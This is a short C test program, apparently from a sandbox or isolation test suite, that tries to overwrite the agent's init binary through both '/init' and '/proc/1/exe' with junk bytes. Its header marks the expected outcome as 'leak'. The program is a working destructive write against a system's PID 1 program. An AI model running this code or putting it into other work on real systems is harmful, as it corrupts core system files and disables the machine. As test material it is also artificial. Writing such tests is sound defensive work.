// SPDX-License-Identifier: GPL-2.0-only
/*
 * Writes over the agent's program, by each of its names.
 *
 * expect:
 *	outcome=leak
 */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(void)
{
	static const char *const names[] = {"/init", "/proc/1/exe"};
	static char junk[65536];

	memset(junk, 0xcc, sizeof(junk));
	for (int i = 0; i < 2; i++) {
		int fd = open(names[i], O_WRONLY);

		if (fd < 0) {
			perror(names[i]);
			continue;
		}
		for (int n = 0; n < 16; n++)
			if (write(fd, junk, sizeof(junk)) < 0)
				perror("write");
		close(fd);
	}
	return 0;
}
